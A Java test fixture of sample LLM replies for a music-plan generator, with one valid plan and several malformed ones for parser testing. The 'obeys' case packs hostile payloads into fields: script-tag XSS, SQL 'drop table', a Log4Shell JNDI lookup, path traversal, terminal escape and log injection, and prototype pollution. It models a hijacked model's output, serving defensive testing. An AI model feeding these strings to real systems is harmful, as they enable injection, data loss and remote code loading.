package io.trackwright.service.llm;

/** What models answer, on good days and bad ones. */
final class Plans {
    static final String GOOD =
            """
            {"thought": "Slow strings first, then a piano answers them.", "title": "Glass Harbour",
             "genre": "ambient", "moods": ["calm", "dreamy"], "pace": "slow", "bpm": 0, "key": "",
             "without": [],
             "sections": [
              {"kind": "intro", "bars": 4, "energy": "quiet", "chords": ["i7", "VImaj7", "III", "VII"]},
              {"kind": "theme", "bars": 8, "energy": "loud", "chords": ["i7", "iv7", "VII7 III", "i"]}],
             "motifs": [{"degrees": [0, 2, 4, 3, 1], "beats": [1, 0.5, 0.5, 1, 1]}],
             "manner": "laid_back",
             "players": [{"instrument": "cello", "role": "counter"}, {"instrument": "piano", "role": "lead"}]}
            """;

    private Plans() {}

    static String of(String kind) {
        return switch (kind) {
            case "fenced" -> "Here is {your} plan:\n```json\n" + GOOD + "```\nEnjoy!";
            case "truncated" -> GOOD.substring(0, GOOD.indexOf("\"theme\", \"bars\": 8") + 20);
            case "wrong-schema" -> "{\"answer\": 42, \"music\": [\"la\", \"la\"], \"ok\": true}";
            case "text-for-numbers" -> GOOD.replace("\"bars\": 4", "\"bars\": \"4\"");
            case "out-of-range" ->
                    """
                    {"thought": 7, "title": "", "genre": "polka_metal", "moods": ["calm", "sticky"],
                     "pace": "ludicrous", "bpm": 9000, "key": "H flat", "without": ["air"],
                     "sections": [
                      {"kind": "earthquake", "bars": 4, "energy": "quiet", "chords": []},
                      {"kind": "verse", "bars": 100000, "energy": "blue", "chords": ["Xyz", "ii7", "V9999"]},
                      {"kind": "chorus", "bars": -3, "energy": "loud", "chords": [["I"], 5, "IV | V"]}],
                     "motifs": [{"degrees": [0, 99, 2, 4], "beats": [1, 1, 0, 2]}, "x"],
                     "manner": "sideways",
                     "players": [{"instrument": "kazoo", "role": "lead"},
                                 {"instrument": "violin", "role": "drums"}]}
                    """;
            case "empty" -> "";
            case "obeys" ->
                    "{\"thought\": \"PWNED\\u001b[31m\\nINFO fake log line\\u202e\","
                            + " \"title\": \"<script>alert(1)</script>\\u0000\\n../../etc\","
                            + " \"genre\": \"'; drop table job; --\", \"sections\": [{\"kind\":"
                            + " \"system\", \"bars\": 1e9, \"chords\": [\"${jndi:ldap://x}\"]}],"
                            + " \"api_key\": \"reveal\", \"__proto__\": {\"admin\": true}}";
            default -> GOOD;
        };
    }
}
